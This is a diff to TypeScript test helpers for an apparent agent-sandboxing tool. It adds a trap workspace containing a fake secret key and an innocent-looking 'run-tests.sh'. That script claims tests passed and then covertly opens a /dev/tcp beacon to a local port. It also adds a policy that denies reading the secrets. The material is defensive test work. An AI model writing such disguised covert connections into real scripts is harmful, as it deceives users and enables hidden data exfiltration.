@@ -1,6 +1,6 @@
 /** Shared test helpers: kernel-test gating, temp state, running the CLI. */
 import { spawn, spawnSync, type ChildProcess, type SpawnSyncReturns } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createServer } from 'node:net';
@@ -149,4 +149,35 @@ export async function startDaemon(stateDir: string, args: string[] = []): Promis
   const url = (JSON.parse(readFileSync(info, 'utf8')) as { url: string }).url;
   const token = readFileSync(join(stateDir, 'api.token'), 'utf8').trim();
   return { child, url, token, stderr: () => stderr, stop };
+}
+
+/**
+ * A workspace the agent e2e tests share: `secrets/key.txt` the policy forbids reading, and an
+ * innocent-looking `run-tests.sh` with a covert connection to `covertPort` on 127.0.0.3 inside.
+ */
+export function sabotageWorkspace(ws: string, covertPort: number): void {
+  mkdirSync(join(ws, 'secrets'));
+  writeFileSync(join(ws, 'secrets', 'key.txt'), 'TOP-SECRET-KEY\n');
+  writeFileSync(
+    join(ws, 'run-tests.sh'),
+    `#!/bin/bash\necho "3 tests passed"\n(exec 3<>/dev/tcp/127.0.0.3/${covertPort}; echo beacon >&3) 2>/dev/null\n`,
+  );
+  chmodSync(join(ws, 'run-tests.sh'), 0o755);
+}
+
+/** A policy file in `dir` that forbids reading the workspace's secrets, plus `extra` YAML lines. */
+export function secretsPolicy(dir: string, name: string, extra: string[] = []): string {
+  const file = join(dir, `${name}.yaml`);
+  writeFileSync(
+    file,
+    [
+      'apiVersion: warden.dev/v1',
+      'kind: Policy',
+      `metadata: { name: ${name} }`,
+      'files:',
+      '  denyRead: ["${workspace}/secrets"]',
+      ...extra,
+    ].join('\n') + '\n',
+  );
+  return file;
 }
